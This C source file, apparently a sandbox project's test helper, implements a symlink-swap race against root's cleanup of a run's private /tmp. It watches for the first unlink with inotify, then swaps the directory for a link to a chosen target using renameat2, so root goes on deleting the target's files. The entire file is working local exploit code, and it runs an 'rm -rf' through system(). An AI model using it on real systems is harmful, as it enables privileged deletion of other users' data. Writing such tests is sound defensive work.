/* SPDX-License-Identifier: MIT */
/*
 * An attack made from outside the sandbox, by another process of the
 * command's user (run_as), on root's removal of the run's private /tmp
 * without a mount namespace: that directory is the user's.  It fills
 * DIR/a with the names TARGET holds, waits for the removal's first unlink
 * there, and exchanges `a` for a link to TARGET in one step: a removal that
 * walks by path names goes on unlinking TARGET's files, as root.
 *
 *   tmp_swap PATHFILE TARGET N
 *
 * PATHFILE: where the command in the sandbox writes DIR (its $TMPDIR);
 * DIR/ready is made when all is planted (the command may end then).
 * Exits 0 when the exchange was made, 1 otherwise.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
	char dir[PATH_MAX] = "", a[PATH_MAX + 8], p[PATH_MAX + 32], spare[64], link[96];
	char buf[4096];
	int n, in;

	if (argc != 4)
		return 2;
	n = atoi(argv[3]);
	/* the command's $TMPDIR, once it has said it (60 s at most) */
	for (int i = 0; i < 6000 && !dir[0]; i++) {
		FILE *f = fopen(argv[1], "r");
		if (f) {
			if (fgets(dir, sizeof(dir), f))
				dir[strcspn(dir, "\n")] = '\0';
			fclose(f);
		}
		if (!dir[0])
			usleep(10000);
	}
	if (!dir[0])
		return 1;
	snprintf(a, sizeof(a), "%s/a", dir);
	if (mkdir(a, 0700) < 0)
		return 1;
	for (int i = 0; i < n; i++) {
		snprintf(p, sizeof(p), "%s/v%05d", a, i);
		close(open(p, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
	}
	/* the link waits on the same file system, outside the walk */
	snprintf(spare, sizeof(spare), "/tmp/rf-tmp-swap-%d", (int)getpid());
	if (mkdir(spare, 0700) < 0)
		return 1;
	snprintf(link, sizeof(link), "%s/link", spare);
	if (symlink(argv[2], link) < 0)
		return 1;
	in = inotify_init1(IN_CLOEXEC);
	if (in < 0 || inotify_add_watch(in, a, IN_DELETE) < 0)
		return 1;
	snprintf(p, sizeof(p), "%s/ready", dir);
	close(open(p, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
	/* the removal's first unlink in a; then no moment without an `a` */
	if (read(in, buf, sizeof(buf)) <= 0)
		return 1;
	int r = renameat2(AT_FDCWD, link, AT_FDCWD, a, RENAME_EXCHANGE);
	/* what was swapped out, and the link if it stayed, are ours */
	snprintf(p, sizeof(p), "rm -rf %s", spare);
	if (system(p) != 0)
		return 1;
	return r < 0 ? 1 : 0;
}
